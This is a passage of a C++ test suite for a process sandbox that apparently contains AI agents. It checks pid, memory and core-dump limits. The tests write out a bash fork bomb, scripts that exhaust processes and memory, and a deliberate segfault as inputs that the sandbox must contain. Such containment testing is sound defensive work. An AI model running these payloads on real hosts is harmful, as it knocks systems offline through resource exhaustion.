                        " ' /proc/self/mountinfo");
    SB_ASSERT_RAN(r);
    const std::string uid = std::to_string(sbit::runningAsRoot() ? 65534 : ::geteuid());
    auto out = sbit::lines(r.out);
    ASSERT_GE(out.size(), 3u) << dump(r);
    EXPECT_EQ(out[0], uid) << "euid";
    EXPECT_EQ(out[1], uid) << "ruid";
    EXPECT_TRUE(contains(out[2], "nosuid")) << out[2];
}

// --- Resources ---

TEST_F(Escape, ForkBombIsBoundedAndHostStillForks)
{
    auto policy = sb.writePolicy(R"({"version": 1, "limits": {"pids": 64}})");
    // $0 marks every bash of the bomb (they fork without exec), so the host can look for
    // survivors afterwards.
    const std::string marker = "sbbomb" + sbit::uniqueToken();
    auto start = std::chrono::steady_clock::now();
    auto bomb = std::async(std::launch::async, [&] {
        return sb.run({"bash", "-c", "b() { b | b & }; b; sleep 60", marker},
                      withOptions({"--policy", policy.string(), "--timeout", "20"}, 90));
    });
    std::this_thread::sleep_for(std::chrono::seconds(3)); // let the bomb go off
    EXPECT_TRUE(allForksWork(10)) << "the host could not fork during the bomb";
    auto r = bomb.get();
    auto took = std::chrono::steady_clock::now() - start;
    EXPECT_LT(took, std::chrono::seconds(40)) << dump(r);
    EXPECT_NE(r.status, 0) << dump(r);
    EXPECT_TRUE(allForksWork(10)) << "the host could not fork after the bomb";
    int survivors = 0;
    for (const auto& entry : fs::directory_iterator("/proc"))
        if (contains(sbtest::readFile(entry.path() / "cmdline"), marker)) ++survivors;
    EXPECT_EQ(survivors, 0) << "bomb processes outlived the session";
}

TEST_F(Escape, ProcessCountLimitHolds)
{
    // Asks for more processes than the limit allows, without a bomb: at most 64 may exist.
    auto policy = sb.writePolicy(R"({"version": 1, "limits": {"pids": 64}})");
    auto r = sb.attempt(R"(python3 - <<'EOF'
import os, subprocess
children = []
try:
    for _ in range(200):
        children.append(subprocess.Popen(["sleep", "30"]))
except OSError as e:
    print("refused", e.errno)
print("running", sum(1 for p in os.listdir("/proc") if p.isdigit()))
for c in children:
    c.kill()
EOF)",
                        withOptions({"--policy", policy.string(), "--timeout", "30"}));
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "refused 11\n")) << "EAGAIN at the limit\n" << dump(r);
    auto at = r.out.find("running ");
    ASSERT_NE(at, std::string::npos) << dump(r);
    int running = std::stoi(r.out.substr(at + 8));
    EXPECT_LE(running, 64) << dump(r);
    EXPECT_GE(running, 10) << "the sandbox could not start processes at all\n" << dump(r);
}

TEST_F(Escape, MemoryHogFailsInsideHostFine)
{
    auto policy = sb.writePolicy(R"({"version": 1, "limits": {"memory_mb": 512}})");
    const RunSpec limited = withOptions({"--policy", policy.string(), "--timeout", "60"}, 90);
    auto huge =
        sb.attempt("python3 -c 'b = bytearray(100 * 1024**3); print(\"ALLOCATED\")'", limited);
    SB_ASSERT_RAN(huge);
    EXPECT_FALSE(contains(huge.out, "ALLOCATED")) << dump(huge);

    // 1 GiB in 64 MiB pieces: far below this machine's memory, but above the limit.
    const std::string gig = "python3 -c 'x = [bytearray(64 << 20) for _ in range(16)]; "
                            "print(\"ALLOCATED\")'";
    auto over = sb.attempt(gig, limited);
    SB_ASSERT_RAN(over);
    EXPECT_FALSE(contains(over.out, "ALLOCATED")) << dump(over);
    EXPECT_TRUE(allForksWork(3));

    // Under the default limit (4 GiB) the same gigabyte is fine: the limit made the difference.
    auto within = sb.attempt(gig, withOptions({}, 90));
    EXPECT_TRUE(contains(within.out, "ALLOCATED")) << dump(within);
}

TEST_F(Escape, MemoryLimitCoversTheWholeSandboxNotEachProcess)
{
    // Four processes of 300 MiB each stay under a 512 MiB per-process limit but hold 1.2 GiB
    // together: only a sandbox-wide limit (cgroup memory.max) stops them.
    auto policy = sb.writePolicy(R"({"version": 1, "limits": {"memory_mb": 512}})");
    auto r = sb.attempt(R"(python3 - <<'EOF'
import os, time
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        b = bytearray(300 << 20)
        for i in range(0, len(b), 4096):
            b[i] = 1
        time.sleep(2)
        os._exit(0)
    kids.append(pid)
print("held", sum(1 for k in kids if os.waitpid(k, 0)[1] == 0))
EOF)",
                        withOptions({"--policy", policy.string(), "--timeout", "60"}, 90));
    SB_ASSERT_RAN(r);
    if (!sb::probeCgroupSupport().available()) {
        // A normal user without a delegated cgroup v2 subtree: the limit can only be per process
        // (RLIMIT_DATA), and the run must say so rather than pretend (README, "Limits").
        EXPECT_TRUE(contains(r.err, "memory and process limits apply per process")) << dump(r);
        return;
    }
    EXPECT_FALSE(contains(r.out, "held 4")) << dump(r);
}

TEST_F(Escape, CoreDumpsDisabled)
{
    // The host's core_pattern may be a plain file name ("core"), written in the cwd: the
    // workspace. RLIMIT_CORE must be 0, hard, so the agent cannot raise it either.
    auto r = sb.attempt("echo core-limit $(ulimit -c); ulimit -c unlimited 2>/dev/null && echo "
                        "RAISED; python3 -c 'import ctypes; ctypes.string_at(0)'; echo "
                        "crash-status $?; bash -c 'kill -SEGV $$'; ls");
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "core-limit 0\n")) << dump(r);
    EXPECT_FALSE(contains(r.out, "RAISED")) << dump(r);
    EXPECT_TRUE(contains(r.out, "crash-status 139")) << "the process did crash\n" << dump(r);
    for (const fs::path& dir : {sb.workspace(), sb.upper("it1")}) {
        std::error_code ec;
        for (auto it = fs::recursive_directory_iterator(dir, ec); !ec && it != fs::end(it);
             it.increment(ec))
            EXPECT_EQ(it->path().filename().string().rfind("core", 0), std::string::npos)
                << "core file " << it->path();
    }
}
